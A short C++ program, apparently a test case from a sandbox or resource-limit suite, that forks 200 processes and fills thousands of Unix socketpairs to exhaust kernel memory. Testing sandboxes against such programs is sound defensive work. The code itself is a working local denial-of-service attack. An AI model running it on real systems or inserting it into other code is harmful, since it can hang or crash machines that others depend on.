// Memory of the kernel: pipes and sockets that are full.

#include "attack.h"

int main() {
  static const std::string block(1 << 16, 'x');
  for (int i = 0; i < 200; ++i) {
    if (fork() != 0) continue;
    for (int j = 0; j < 2'000; ++j) {
      int ends[2];
      if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) != 0) break;
      while (write(ends[0], block.data(), block.size()) > 0) {
      }
    }
    for (;;) pause();
  }
  for (;;) pause();
}
